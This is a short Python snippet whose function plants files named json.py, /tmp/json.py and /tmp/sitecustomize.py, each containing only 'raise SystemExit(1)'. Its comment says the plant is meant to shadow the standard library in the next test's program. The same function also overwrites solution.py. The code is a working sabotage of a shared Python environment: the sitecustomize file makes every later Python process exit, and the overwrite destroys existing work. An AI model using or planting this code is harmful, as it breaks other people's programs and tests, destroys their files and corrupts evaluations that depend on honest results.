# The next test's program would import it in place of the library's.
def trick():
    for place in ("json.py", "/tmp/json.py", "/tmp/sitecustomize.py", "solution.py"):
        with open(place, "w") as file:
            file.write("raise SystemExit(1)\n")
